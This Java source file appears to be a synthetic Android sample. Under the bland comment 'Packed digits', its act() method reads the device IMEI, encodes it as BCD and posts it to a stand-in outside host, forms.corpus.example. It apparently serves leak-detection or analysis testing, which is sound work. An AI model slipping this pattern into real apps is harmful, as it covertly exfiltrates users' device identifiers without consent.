package org.corpus;

import java.nio.ByteBuffer;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Packed digits. */
public class AsBcd extends Screen {
    @Override
    protected void act() throws Exception {
        String digits = Owner.imei(this) + "f";
        byte[] data = new byte[8];
        for (int i = 0; i < 8; i++) {
            int low = Character.digit(digits.charAt(2 * i), 16);
            data[i] = (byte) (Character.digit(digits.charAt(2 * i + 1), 16) << 4 | low);
        }
        ByteBuffer record = ByteBuffer.allocate(16).putInt(0xc0de0001).put(data).putInt(7);
        Net.post("http://forms.corpus.example/bcd", "application/octet-stream", record.array());
    }
}
